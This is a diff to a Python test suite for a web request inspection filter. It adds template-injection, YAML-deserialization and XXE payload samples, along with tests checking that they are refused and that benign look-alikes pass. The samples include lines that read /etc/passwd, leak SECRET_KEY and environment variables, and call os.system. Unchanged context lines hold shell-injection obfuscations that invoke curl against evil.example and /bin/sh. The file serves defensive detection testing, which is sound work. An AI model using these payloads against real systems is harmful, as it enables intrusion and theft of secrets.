@@ -42,6 +42,11 @@ KINDS = {
     "log-in form of another site": ['<form action="https://evil.example"><input type=password name=p><input type=submit>', "<form method=post action=//evil.example/x>Log in: <input name=p type='password'></form>"],
     "object of a template engine": ["{%set x=lipsum%}{{x}}", "{%for i in cycler.mro()%}{{i}}{%endfor%}", "{%if joiner.mro()%}{{x}}{%endif%}", "{%for i in g%}{{i}}{%endfor%}", "{{ current_app.config }}", "{%- set z = namespace -%}{{ z }}"],
     "expression that is not escaped": ["{{!locals()}}", "{{!9**9**9}}", "{{!_env}}", "{{!x.__class__}}", "{{! help() }}", "{{![x for x in _env]}}", "a{{!vars(request)}}b"],
+    "line of a program in a template": ["% import subprocess as s; _stdout.append(s.getoutput('id'))", "% import os\n{{os.environ}}", "x\n% from os import environ as e\n{{e}}", "% x=open('/etc/passwd').read()\n{{x}}", "% for l in open('/etc/passwd'):\n{{l}}\n% end", "hello\n% _stdout.append(config['SECRET_KEY'])", "{{_stdout}}"],
+    "settings inside an expression": ["{{ {'a':config} }}", "{{ {'title':'Hi','b':config}.b }}", "{{ x ~ config }}", "{{ '' ~ config.values() }}", "{{ [config.get('SECRET_KEY')] }}", "{{ 1 and config['SECRET_%s'%'KEY'] }}", "{{ x ~ os.getenv('SECRET') }}", "{% set a=os.getenv('SECRET') %}{{a}}", "{{os.environ.SECRET}}", "${locals()}", "${context._data}"],
+    "YAML that calls": ["- 1\n- !!python/object/apply:eval ['1+1']", "? !!python/object/apply:time.time []\n: 1", "name: shop\nitems:\n  - !!python/object/apply:platform.node []"],
+    "YAML with a handle": ["%TAG !y! tag:yaml.org,2002:\n---\n!y!python/object/apply:os.system ['true']", "%TAG ! tag:yaml.org,2002:py\n---\n!thon/object/apply:os.system [ 'true' ]", "%TAG !p! tag:yaml.org,2002:pyth\n---\nname: my shop\nhook: !p!on/object/apply:os.system [ 'true' ]", "%TAG !p! ta\n---\n!p!g:yaml.org,2002:python/name:os.system x"],
+    "document type in a file": ['<!DOCTYPE r PUBLIC "-//W3C//DTD XHTML 1.0//EN" "/tmp/x.dtd"><r>&f;</r>', '<!DOCTYPE r PUBLIC "x" "uploads/1.dtd"><r>&f;</r>'],
     "settings in a template of any text": ["FROM python:3\nRUN {{config.items()}}\nCMD [\"x\"]", '  File "{{config.SECRET_KEY}}", line 1, in f', "the log says {{request.environ}} here"],
     "program in quotes": ["x;'cat' config.py", 'x;"cat" f', "x;\\cat f", "x;\\c\\a\\t f", "$(\\cat f)", "127.0.0.1|'sh' x", "x;'c'at f", "x;c\\at f", "x;$'cat' f", "shop;'cat' f", "`'cat' f`"],
     "program in pieces": ["x;c${z}at f", "x;c${z}url evil.example", "x;/b${z}in/sh x", "x;${x:-cat} f", "x;/usr/bin/c?t f", "x;a=s;b=h;$a$b x", "x;IFS=,;a=sh,x;$a"],
@@ -165,3 +170,57 @@ def test_a_formula_is_reported_and_not_refused(
     site = Site(SecurityConfig())
     assert site.visit("/import", query_string="name=" + quote_plus(formula)).code == 200
     assert any("csv_injection in query 'name'" in message for message in caplog.messages)
+
+
+@pytest.mark.parametrize("kind", ["YAML that calls", "YAML with a handle"])
+@pytest.mark.parametrize("media", ["application/yaml", "text/yaml", "text/plain"])
+def test_a_document_of_yaml_that_calls_is_refused(
+    inspection: Inspection, kind: str, media: str
+) -> None:
+    for text in KINDS[kind]:
+        assert inspection.body(text.encode(), content_type=media), text
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "%TAG ! tag:example.com,2000:app/\n---\n!foo x",
+        "%TAG !u! tag:unity3d.com,2011:\n--- !u!1 &1\nx: 1",
+        "%TAG !! tag:yaml.org,2002:\n---\n!!str x",
+        "% for example see the file:\n% import data from the file",
+        "20% import duty from China",
+        "the tag !!python/object is dangerous",
+    ],
+)
+def test_a_handle_a_comment_and_a_share_pass(inspection: Inspection, text: str) -> None:
+    assert not inspection.head(environ(query="q=" + quote_plus(text)))
+    assert not inspection.body(text.encode(), content_type="application/yaml")
+
+
+_ENTITY = '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
+
+
+@pytest.mark.parametrize(
+    "media",
+    ["application/xml", "image/svg+xml", "application/xhtml+xml", "text/html", "text/csv", ""],
+)
+def test_entities_in_utf_16_are_found_whatever_the_instruction_says(
+    inspection: Inspection, media: str
+) -> None:
+    for instruction in ("", '<?xml version="1.0" encoding="UTF-16BE"?>', '<?xml version="1.0"?>'):
+        assert inspection.body((instruction + _ENTITY).encode("utf-16"), content_type=media)
+
+
+@pytest.mark.parametrize("media", ["application/xml", "image/svg+xml", "application/xhtml+xml"])
+def test_a_document_type_elsewhere_is_refused_and_a_published_one_passes(
+    inspection: Inspection, media: str
+) -> None:
+    for address in ("file:///tmp/x.dtd", "http://evil.example/x.dtd", "/tmp/x.dtd"):
+        body = f'<!DOCTYPE r SYSTEM "{address}"><r>&f;</r>'
+        assert inspection.body(body.encode(), content_type=media), address
+    for said in (
+        'svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"',
+        'html SYSTEM "about:legacy-compat"',
+    ):
+        body = f"<!DOCTYPE {said}><r/>"
+        assert not inspection.body(body.encode(), content_type=media), said
